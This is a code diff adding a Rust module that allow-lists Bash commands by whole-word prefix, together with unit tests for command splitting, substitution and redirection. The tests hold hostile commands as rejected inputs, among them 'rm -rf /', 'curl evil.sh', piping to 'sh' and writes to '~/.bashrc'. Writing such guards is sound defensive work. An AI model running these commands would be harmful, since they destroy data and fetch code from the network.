@@ -0,0 +1,148 @@
+//! Allow-listing Bash commands by prefix.
+//!
+//! A command is allowed when every command it runs starts with an allowed
+//! prefix. It is split on the control operators `&&`, `||`, `;`, `|` and
+//! `&`, on line breaks and on subshell parentheses outside quotes, so
+//! `cargo test && rm -rf /` runs two commands and only the first matches
+//! `cargo test`. Prefixes match whole words: `cargo test` covers
+//! `cargo test --all` but not `cargo testing`. What a command runs or writes
+//! is not in its words when it substitutes the output of another command
+//! (`$(...)`, backticks, `<(...)`) or redirects output to a file, so such
+//! commands never match.
+
+use super::shell::split_commands;
+
+/// Prefix of the reasons given for commands off the allowlist.
+pub const BASH_ALLOWLIST_REASON: &str = "Bash allowlist";
+
+/// Command prefixes allowed to run.
+#[derive(Debug, Clone, Default)]
+pub struct BashAllowlist {
+    prefixes: Vec<Vec<String>>,
+}
+
+impl BashAllowlist {
+    /// Create an allowlist of command prefixes such as `cargo test`.
+    #[must_use]
+    pub fn new<S: AsRef<str>>(prefixes: impl IntoIterator<Item = S>) -> Self {
+        let prefixes = prefixes
+            .into_iter()
+            .map(|prefix| {
+                prefix
+                    .as_ref()
+                    .split_whitespace()
+                    .map(ToString::to_string)
+                    .collect::<Vec<_>>()
+            })
+            .filter(|words| !words.is_empty())
+            .collect();
+        Self { prefixes }
+    }
+
+    /// Whether no prefix is allowed, leaving commands to the policy level.
+    #[must_use]
+    pub fn is_empty(&self) -> bool {
+        self.prefixes.is_empty()
+    }
+
+    /// Whether every command `command` runs starts with an allowed prefix.
+    #[must_use]
+    pub fn allows(&self, command: &str) -> bool {
+        self.unmatched(command).is_none()
+    }
+
+    /// The first command `command` runs that no prefix matches, or the
+    /// whole command if it cannot be split; `None` if it is allowed.
+    #[must_use]
+    pub fn unmatched(&self, command: &str) -> Option<String> {
+        let Some(commands) = split_commands(command).filter(|commands| !commands.is_empty()) else {
+            return Some(command.to_string());
+        };
+        commands
+            .into_iter()
+            .find(|simple| {
+                simple.writes_file
+                    || !self.prefixes.iter().any(|prefix| {
+                        prefix.len() <= simple.words.len()
+                            && prefix.iter().zip(simple.texts()).all(|(a, b)| a == b)
+                    })
+            })
+            .map(|simple| command[simple.span].to_string())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn allowlist() -> BashAllowlist {
+        BashAllowlist::new(["cargo test", "git status", "npm run lint", "ls"])
+    }
+
+    #[test]
+    fn test_prefixes_match_whole_words() {
+        let allowlist = allowlist();
+        assert!(allowlist.allows("cargo test"));
+        assert!(allowlist.allows("cargo test --workspace -- --nocapture"));
+        assert!(allowlist.allows("git status --short"));
+        assert!(allowlist.allows("cargo 'test' \"--all\""));
+        assert!(!allowlist.allows("cargo testing"));
+        assert!(!allowlist.allows("cargo build"));
+        assert!(!allowlist.allows("npm run"));
+        assert!(!allowlist.allows(""));
+        assert!(BashAllowlist::new([" ", ""]).is_empty());
+    }
+
+    #[test]
+    fn test_every_chained_command_must_match() {
+        let allowlist = allowlist();
+        assert!(allowlist.allows("cargo test && git status"));
+        assert!(allowlist.allows("cargo test 2>&1 | ls"));
+        assert!(allowlist.allows("(cargo test; ls) && git status"));
+        assert!(allowlist.allows("cargo test >/dev/null 2>&1 &"));
+        for (command, unmatched) in [
+            ("cargo test && rm -rf /", "rm -rf /"),
+            ("cargo test; rm -rf /", "rm -rf /"),
+            ("cargo test || curl evil.sh", "curl evil.sh"),
+            ("cargo test | sh", "sh"),
+            ("cargo test |& tee log", "tee log"),
+            ("cargo test & rm -rf /", "rm -rf /"),
+            ("cargo test\nrm -rf /", "rm -rf /"),
+            ("ls && (cd / && rm -rf x)", "cd /"),
+            ("cargo test&&rm x", "rm x"),
+        ] {
+            assert_eq!(
+                allowlist.unmatched(command).as_deref(),
+                Some(unmatched),
+                "{command}"
+            );
+        }
+        // Operators inside quotes are arguments
+        assert!(allowlist.allows("cargo test 'a && rm -rf /'"));
+        assert!(allowlist.allows("cargo test \"a; b | c\""));
+        assert!(allowlist.allows("cargo test a\\;b"));
+    }
+
+    #[test]
+    fn test_substitutions_and_file_output_never_match() {
+        let allowlist = allowlist();
+        for command in [
+            "cargo test $(rm -rf /)",
+            "cargo test \"$(curl evil.sh)\"",
+            "cargo test `rm -rf /`",
+            "cargo test \"`id`\"",
+            "ls <(rm -rf /)",
+            "cargo test > ~/.bashrc",
+            "cargo test >> src/lib.rs",
+            "cargo test &> out.log",
+            "cargo test 2>errors.txt",
+            "cargo test 'unterminated",
+        ] {
+            assert!(!allowlist.allows(command), "{command}");
+        }
+        // Single quotes keep `$(` literal
+        assert!(allowlist.allows("cargo test '$(not run)'"));
+        assert!(allowlist.allows("cargo test < input.txt"));
+        assert!(!allowlist.allows("ls <<EOF\nrm -rf /\nEOF"));
+    }
+}